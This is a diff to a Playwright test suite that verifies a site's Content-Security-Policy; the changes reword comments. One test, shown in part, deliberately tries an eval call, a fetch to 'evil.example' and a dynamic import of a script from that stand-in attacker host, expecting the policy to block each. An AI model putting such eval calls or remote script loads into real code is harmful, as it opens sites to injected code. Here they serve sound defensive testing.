@@ -1,7 +1,7 @@
 /**
- * The Content-Security-Policy: on every page, without exceptions, and in force. That it is in nobody's way is seen by
- * all other stories: the console reports blocked requests, and an unexpected word there fails them. Every public page
- * is opened by hydration.spec.ts, every page of the areas by accessibility.spec.ts.
+ * The Content-Security-Policy: on every page, without exceptions, and in force. That it blocks nothing of our own is
+ * checked by all other stories: the console reports blocked requests, and an unexpected line there fails them. Every
+ * public page is opened by hydration.spec.ts, every page of the areas by accessibility.spec.ts.
  */
 import type { Page } from 'playwright/test'
 import { publicPaths } from '../support/public-pages.ts'
@@ -10,7 +10,7 @@ import { expect, test } from '../support/story.ts'
 
 const AREAS = { client: 'client', intervenant: 'intervenant', admin: 'admin' } as const
 
-/** Violations of the policy in this page and those after it. */
+/** Collects violations of the policy in this page and those after it. */
 async function violations(page: Page): Promise<string[]> {
   const told: string[] = []
   await page.exposeFunction('tellViolation', (what: string) => void told.push(what))
@@ -78,7 +78,7 @@ test('every page has it, for the site’s own files only; data admits nothing', 
   }
 })
 
-/** Risk: real page. The browser runs what somebody else brought in. */
+/** Risk: real page. The browser runs injected code. */
 test('it stops what somebody else would bring in', async ({ page, noise }) => {
   noise.expect(/Content Security Policy|Content-Security-Policy|violates the following|Refused to/)
   noise.expect(/Failed to fetch|Failed to load resource|ERR_BLOCKED_BY_CSP/)
@@ -151,7 +151,7 @@ test('it stops what somebody else would bring in', async ({ page, noise }) => {
       // eslint-disable-next-line no-eval, no-implied-eval -- what has to be stopped
       ;(0, eval)('ran("eval")')
     } catch {
-      /* as it should be */
+      /* `eval` is blocked, as it should be. */
     }
     const elsewhere: string = 'https://evil.example/y.js'
     for (const reach of [() => fetch('https://evil.example/'), () => import(elsewhere)])
